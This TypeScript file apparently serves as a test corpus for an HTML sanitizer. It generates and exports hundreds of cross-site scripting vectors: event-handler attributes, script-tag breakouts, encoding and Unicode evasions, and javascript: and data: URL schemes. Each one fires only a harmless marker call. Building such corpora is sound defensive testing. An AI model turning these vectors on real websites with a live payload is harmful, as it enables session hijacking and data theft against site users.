/**
 * Markup by which pages were made to run what was only to be shown, by class: each a way of its own, and
 * all of them saying `ran()`. Written for this project after the classes that public lists name.
 */

const call = 'ran()'

/** Elements that load, appear, move or fail, and tell of it. */
const tellers: [element: string, events: string[]][] = [
  ['img src=x', ['onerror', 'onload', 'onmouseover']],
  ['svg', ['onload', 'onfocus']],
  ['body', ['onload', 'onpageshow', 'onhashchange', 'onscroll']],
  ['video src=x', ['onerror', 'onloadstart', 'oncanplay']],
  ['audio src=x', ['onerror', 'onloadstart']],
  ['iframe src="about:blank"', ['onload']],
  ['object data=x', ['onerror', 'onload']],
  ['embed src=x', ['onerror', 'onload']],
  ['input autofocus', ['onfocus', 'onblur', 'onchange']],
  ['textarea autofocus', ['onfocus']],
  ['select autofocus', ['onfocus']],
  ['details open', ['ontoggle']],
  ['marquee', ['onstart', 'onfinish']],
  [
    'div tabindex=0',
    [
      'onclick',
      'onpointerover',
      'ontransitionend',
      'onanimationstart',
      'onwheel',
      'onpaste',
      'oncopy',
    ],
  ],
  ['style', ['onload', 'onerror']],
  ['link rel=stylesheet href=x', ['onload', 'onerror']],
  ['form', ['onsubmit', 'onformdata']],
  ['dialog open', ['onclose', 'oncancel']],
  ['picture', ['onclick']],
  ['math', ['onclick', 'onload']],
]

const written: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}="${call}">`,
  (element, event) => `<${element} ${event}=${call}//`,
  (element, event) => `<${element}/${event}='${call}'>`,
  (element, event) => `"><${element} ${event}=${call}>`,
  (element, event) => `'><${element}\n${event.toUpperCase()}\n=\n"${call}">`,
]

const events = tellers.flatMap(([element, names]) =>
  names.flatMap((event) => written.map((write) => write(element, event))),
)

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT SRC="data:text/javascript,${call}"></SCRIPT>`,
  `<script type=module>${call}</script>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script><![CDATA[`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to="javascript:${call}"/><text y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href="javascript:${call}">a</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<base href="javascript:${call}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<form action="javascript:${call}"><button>a</button></form>`,
  `<button formaction="javascript:${call}">a</button>`,
  `<xml id=x><a><b>&lt;script>${call}&lt;/script></b></a></xml>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${call}</script>">]>&e;`,
  `<style>@import "javascript:${call}";</style>`,
  `<p style="background:url(javascript:${call})">a</p>`,
  `<p style="width:expression(${call})">a</p>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\u202E<script>${call}</script>`,
  `<\u0000script>${call}</script>`,
  `＜script＞${call}＜/script＞`,
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&#0058;',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'blob:',
  'filesystem:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
  '//javascript:',
]

const links = schemes.flatMap((scheme) => [
  `<a href="${scheme}${call}">a</a>`,
  `<a xlink:href="${scheme}${call}">a</a>`,
  `<img src="${scheme}${call}">`,
  `<iframe src="${scheme}${call}"></iframe>`,
  `[a](${scheme}${call})`,
  `![a](${scheme}${call})`,
])

export const markupVectors = [...scripts, ...events, ...links]
